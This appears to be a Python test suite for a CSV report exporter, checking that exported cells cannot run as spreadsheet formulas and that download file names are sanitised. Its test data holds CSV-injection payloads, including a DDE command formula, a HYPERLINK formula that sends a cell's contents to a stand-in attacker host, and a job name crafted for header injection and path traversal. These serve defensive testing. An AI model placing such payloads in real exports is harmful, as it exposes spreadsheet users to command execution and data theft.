"""The report as CSV: whatever anybody writes, a spreadsheet shows it and runs none of it."""

import csv
import math
from datetime import UTC, datetime, timedelta, timezone
from io import StringIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from spotwarden.model.standing import Standing
from spotwarden.notify.templates.text import clean
from spotwarden.report.export import as_csv, file_name
from spotwarden.report.export.cells import MOST, plain, table, text
from spotwarden.report.export.sheets import MOST_NAMES
from spotwarden.report.model.experiments import MetricSummary, Money
from spotwarden.report.model.fleet import By
from tests.report.exported import (
    EVERY,
    HOUR,
    NOW,
    comparison,
    entry,
    experiment,
    experiments,
    fleet,
    life,
    read,
    trust,
)

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", " =1", '"=1', "'=1", "''=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"here")', "\uff1d1", "\uff0b1", "\uff0d1",
    "\uff201", "x;=1+1;y", 'x; "=1', "x;'=1", "\u200e=1", "\x00=1", "\u2028=1",
)  # fmt: skip
ODD = st.text("=+-@;'\" \tx\uff1d", max_size=12)
TEXTS = st.one_of(st.text(max_size=30), ODD, st.sampled_from(FORMULAS))
NUMBERS = st.one_of(st.integers(-(10**6), 10**6), st.floats(allow_nan=False, allow_infinity=False))


def cells(data):
    """Each row as a reader of RFC 4180 finds it."""
    return list(csv.reader(StringIO(data.decode(), newline=""), strict=True))


def runs(cell, separator):
    """Whether a spreadsheet with this separator finds a formula at the beginning of some cell."""
    parts = cell.split(separator) if separator == ";" else [cell]
    return any(
        part.strip(" \"'\u00a0")[:1] in {*"=+-@", *"\uff1d\uff0b\uff0d\uff20"} - {""}
        for part in parts
        if not part.startswith("'")
    )


@pytest.mark.parametrize("separator", [",", ";"])
@given(TEXTS)
@example("x;=1+1;y")
@example("'=1")
def test_no_text_is_a_formula(separator, said):
    """Neither at its beginning nor, where lists are separated by it, after a semicolon."""
    assert not runs(text(said), separator)


@pytest.mark.parametrize("said", FORMULAS)
def test_what_could_be_a_formula_has_an_apostrophe_before_it(said):
    """Which a spreadsheet takes for the mark of a text."""
    made = text(said)
    assert made.startswith("'") or ";'" in made


@pytest.mark.parametrize(
    "said", ["nap", "a=1", "a - b", "a; b", "it's", "'", "", "0.5", "x;y", "\u4f60\u597d"]
)
def test_what_is_no_formula_stays_as_it_is(said):
    """A sign in the middle makes none."""
    assert text(said) == said


@given(st.lists(st.tuples(TEXTS, TEXTS, NUMBERS, st.none() | st.booleans()), max_size=4))
def test_what_was_written_is_read_again(rows):
    """Texts cleaned of what cannot be seen, numbers to the last digit, nothing for unknown."""
    header, *found = cells(table(["a", "b", "n", "x"], rows))
    assert header == ["a", "b", "n", "x"]
    for row, (first, second, count, flag) in zip(found, rows, strict=True):
        assert [plain(row[0]), plain(row[1])] == [clean(first, MOST), clean(second, MOST)]
        assert type(count)(row[2]) == count
        assert row[3] == ("" if flag is None else str(flag).lower())


@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=4))
def test_a_row_is_a_line(rows):
    """Ended by CR and LF, whatever stands in its cells; no cell holds a line end."""
    data = table(["a", "b"], rows)
    assert data.count(b"\r\n") == data.count(b"\n") == data.count(b"\r") == len(rows) + 1


def test_numbers_are_no_texts():
    """Negative ones, and those that are none, included; a text of digits stays a text."""
    data = table(["n"], [[-1], [-0.5], [1e-7], [math.inf], [-math.inf], [math.nan], ["-1"], [True]])
    assert data.decode().split("\r\n")[1:-1] == [
        "-1", "-0.5", "1e-07", "inf", "-inf", "nan", '"\'-1"', "true"
    ]  # fmt: skip


def test_moments_are_told_in_utc():
    """To the second, with the zone; days as they are."""
    later = datetime(2026, 3, 29, 3, 30, 1, 999, tzinfo=timezone(timedelta(hours=2)))
    data = table(["at", "day"], [[later, later.date()]])
    assert cells(data)[1] == ["2026-03-29T01:30:01Z", "2026-03-29"]


@pytest.mark.parametrize(("length", "cut"), [(MOST, False), (MOST + 1, True)])
def test_no_cell_is_longer_than_a_spreadsheet_takes(length, cut):
    """What was cut says so."""
    made = text("x" * length)
    assert len(made) <= MOST
    assert (made != "x" * length) is cut


@pytest.mark.parametrize("view", EVERY, ids=lambda one: type(one).__name__)
def test_every_view_has_a_table(view):
    """A header, whose names are all different, and as many cells in each row."""
    header, *rows = cells(as_csv(view))
    assert len(set(header)) == len(header)
    assert rows
    assert {len(row) for row in rows} == {len(header)}


def test_a_job_is_a_row_with_its_units():
    """Ids, zones and types stand in one cell each, oldest first."""
    (row,) = read(experiments())
    assert row["job"] == "nap"
    assert (row["runtime_seconds"], row["up_seconds"], row["gpu_hours"]) == ("10800.0", "9000.0", "10.0")
    assert (row["cost_usd"], row["on_demand_usd"], row["saved_usd"]) == ("2.5", "10.0", "7.5")
    assert row["zones"] == "us-central1-a us-central1-b"
    assert (row["metric.loss.last"], row["metric.loss.best"], row["tag.paper"]) == ("-0.25", "-0.5", "icml")
    assert row["status"] == "running"


def test_what_is_not_known_of_a_job_is_empty_and_never_nothing():
    """No price, no status, no ids, no ledger."""
    unpriced = Money(unpriced=HOUR)
    bare = experiment(
        job="bare", owner="", standing=Standing.UNKNOWN, gpus=None, instances=(), started=None, runtime=None,
        up_time=None, gpu_time=None, cost=unpriced, on_demand=unpriced, saved=unpriced, metrics=(), tags={},
    )  # fmt: skip
    nap, row = read(experiments(experiment(), bare))
    unknown = ("owner", "gpus", "started", "ended", "runtime_seconds", "gpu_hours", "cost_usd", "saved_usd",
               "metric.loss.last", "tag.paper")  # fmt: skip
    assert [row[name] for name in unknown] == [""] * len(unknown)
    assert (row["cost_unpriced_vm_hours"], nap["cost_unpriced_vm_hours"]) == ("1.0", "0.0")
    assert row["status"] == "unknown"


def test_only_the_commonest_metrics_have_columns():
    """Those that most jobs have; a table of ten thousand columns is read by nobody."""
    many = [MetricSummary(name=f"m{number:03}", last=1.0) for number in range(MOST_NAMES)]
    rare = experiment(job="rare", metrics=(MetricSummary(name="a-rare-one", last=1.0),))
    rows = read(experiments(rare, experiment(job="a", metrics=many), experiment(job="b", metrics=many)))
    found = {name for name in rows[0] if name.startswith("metric.")}
    assert len(found) == 2 * MOST_NAMES
    assert not any("rare" in name for name in found)


@pytest.mark.parametrize(("said", "cell"), [("nan", "nan"), ("inf", "inf"), ("-inf", "-inf"), (-1.0, "-1.0")])
def test_a_metric_that_is_no_number_is_told_as_such(said, cell):
    """Three words that readers of numbers know; none is quoted, and none can be a formula of anybody."""
    view = experiments(experiment(metrics=(MetricSummary(name="loss", last=said),)))
    assert read(view)[0]["metric.loss.last"] == cell
    assert f",{cell},".encode() in as_csv(view)


def test_names_of_metrics_and_tags_are_no_formulas():
    """They stand in the header, behind words of ours."""
    view = experiments(experiment(metrics=(MetricSummary(name="=1+1", last=1.0),), tags={"=2": "=3"}))
    header, row = cells(as_csv(view))
    assert {"metric.=1+1.last", "tag.=2"} <= set(header)
    assert "'=3" in row


def test_the_fleet_is_one_table_of_all_tables():
    """The total first, and each row says what it is by; an owner whom nobody knows is empty."""
    total, ann, nobody, day = read(fleet())
    assert [row["by"] for row in (total, ann, nobody, day)] == ["total", "owner", "owner", "day"]
    assert (ann["key"], nobody["key"]) == ("ann@example.com", "")
    assert (ann["gpu_hours_used"], ann["gpu_hours_waiting"], ann["goodput"]) == (
        "4.0",
        "0.333333",
        "0.571429",
    )
    assert (ann["cost_usd"], ann["waste_usd"], ann["prices_of"]) == ("2.5", "1.25", "2026-11-01")


def test_a_life_is_told_in_the_order_of_time():
    """Bars, waits, places that refused, moments, loads and metrics, each with what it has."""
    rows = read(life())
    assert [row["start"] for row in rows] == sorted(row["start"] for row in rows)
    assert {row["what"] for row in rows} == {"bar", "wait", "place", "checkpoint", "gpu_percent", "metric"}
    bar = next(row for row in rows if row["what"] == "bar")
    assert (bar["end"], bar["said"]) == ("2026-11-21T12:00:00Z", "preempted: Compute Engine preempted it")
    assert [row["value"] for row in rows if row["what"] == "gpu_percent"] == ["99.0", ""]


def test_jobs_beside_each_other_are_rows_of_the_experiment_table():
    """The same columns."""
    assert read(comparison(life(), life())) == read(experiments(experiment(), experiment()))


def test_an_action_is_a_row_with_its_evidence():
    """As JSON, since it may hold any number of figures."""
    (row,) = read(trust(entry(evidence={"a": "1", "=b": "2"})))
    assert row["evidence"] == '{"a":"1","=b":"2"}'
    assert row["instance_ids"] == "1234567890123456789"
    assert row["at"] == f"{NOW:%Y-%m-%dT%H:%M:%SZ}"


@pytest.mark.parametrize(
    ("view", "name"),
    [
        (experiments(), "spotwarden-experiments.csv"),
        (fleet(), "spotwarden-fleet.csv"),
        (trust(), "spotwarden-trust.csv"),
        (comparison(), "spotwarden-compare.csv"),
        (life(), "spotwarden-job-nap.csv"),
        (
            life(experiment=experiment(job='a"; x=\r\nSet-Cookie: b/../é')),
            "spotwarden-job-a-x-Set-Cookie-b-.csv",
        ),
        (life(experiment=experiment(job="x" * 500)), f"spotwarden-{('job-' + 'x' * 500)[:80]}.csv"),
    ],
)
def test_a_download_has_a_harmless_name(view, name):
    """It goes into a header: no quotation mark, line end or slash of a job's name gets there."""
    assert file_name(view, "csv") == name


def test_two_tables_of_the_fleet_are_told_apart():
    """By the word of the table, which is the word of the page."""
    assert {By(row["by"]) for row in read(fleet())[1:]} == {By.OWNER, By.DAY}


def test_no_moment_without_a_zone_is_taken_for_utc():
    """A local time is told as the moment that it is."""
    assert cells(table(["at"], [[NOW.astimezone(timezone(timedelta(hours=-8)))]]))[1] == [
        f"{NOW.astimezone(UTC):%Y-%m-%dT%H:%M:%SZ}"
    ]
